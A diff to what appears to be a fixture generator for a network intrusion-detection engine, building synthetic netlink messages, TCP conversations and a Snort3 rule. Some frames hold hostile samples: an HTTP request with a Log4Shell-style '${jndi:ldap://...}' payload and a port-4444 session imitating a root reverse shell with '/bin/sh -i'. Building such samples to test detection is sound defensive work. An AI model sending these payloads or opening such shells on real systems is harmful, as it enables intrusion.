@@ -318,6 +318,55 @@ for name, (side, data) in {
     for extended in (0, 1):
         put("wizard", name + ("-extended" if extended else ""), bytes([extended | (2 if side else 0) | 12]) + data)
 
+# --- the kernel and the whole engine ------------------------------------------------------------
+
+
+def link_message(kind, name, flags=0):
+    attributes = struct.pack("=HH", 4 + len(name) + 1, 3) + name + b"\0"
+    body = struct.pack("=BxHiII", 0, 1, 7, 0x10043, 0xFFFFFFFF) + attributes
+    body += b"\0" * (-len(body) % 4)
+    return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body
+
+
+put("link_messages", "new-and-gone", b"\1" + link_message(16, b"cali123") + link_message(17, b"cali123"))
+put("link_messages", "done", b"\1" + link_message(16, b"eth0", 2) + struct.pack("=IHHIIi", 20, 3, 2, 1, 0, 0))
+
+
+def framed(*frames):
+    return b"".join(struct.pack(">BH", 0, len(frame)) + frame for frame in frames)
+
+
+def swap(datagram):
+    return datagram[:12] + datagram[16:20] + datagram[12:16] + datagram[20:]
+
+
+def conversation(port, *script):
+    """A TCP connection with a handshake; every piece of data is acknowledged, both sides close."""
+    position, frames = [0, 0], []
+
+    def send(side, flags, data=b""):
+        ports = (40000, port) if side == 0 else (port, 40000)
+        datagram = ipv4(6, tcp(data, flags, seq=100 + position[side], ack=100 + position[1 - side] if flags != 2 else 0, ports=ports))
+        frames.append(ether(0x800, datagram if side == 0 else swap(datagram)))
+        position[side] += len(data) + (flags & 3 != 0)
+
+    send(0, 2), send(1, 0x12), send(0, 0x10)
+    for speaker, data in script:
+        send(int(speaker == S), 0x18, data.encode("latin-1") if isinstance(data, str) else data)
+        send(int(speaker != S), 0x10)
+    send(0, 0x11), send(1, 0x11), send(0, 0x10)
+    return framed(*frames)
+
+
+put("frames", "http", conversation(80, (C, "GET /?q=${jndi:ldap://x/a} HTTP/1.1\r\nHost: h\r\n\r\n"), (S, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nuid=")))
+put("frames", "http-post", conversation(8080, (C, "POST /c HTTP/1.1\r\nUser-Agent: Mozilla/4.0\r\nContent-Length: 8\r\n\r\nsmk=abcd"), (S, "HTTP/1.1 200 OK\r\n\r\n")))
+put("frames", "smtp", conversation(25, (S, "220 mx ESMTP\r\n"), (C, "EHLO a\r\nMAIL FROM:<a>\r\nDATA\r\n"), (S, "250 a\r\n250 b\r\n354 c\r\n"), (C, MAIL + ".\r\n")))
+put("frames", "tls", conversation(443, (C, record(22, handshake(1, HELLO))), (S, record(22, handshake(2, SERVER)))))
+put("frames", "shell", conversation(4444, (S, "uid=0(root) gid=0(root)\n"), (C, "/bin/sh -i\n" * 20)))
+put("frames", "dns", framed(ether(0x800, ipv4(17, udp(QUERY)))))
+put("frames", "fragments", framed(ether(0x800, ipv4(17, udp(QUERY)[:24], fragment=0x2000)), ether(0x800, ipv4(17, udp(QUERY)[24:], fragment=3))))
+put("frames", "layers", framed(*FRAMES.values()))
+
 # --- rules --------------------------------------------------------------------------------------
 
 put("rules", "snort3", 'alert http $HOME_NET any -> any any ( msg:"a; b\\"c"; flow:to_server,established; http_uri; content:"/x|20|y",fast_pattern,nocase,offset 1,depth 9;\n'
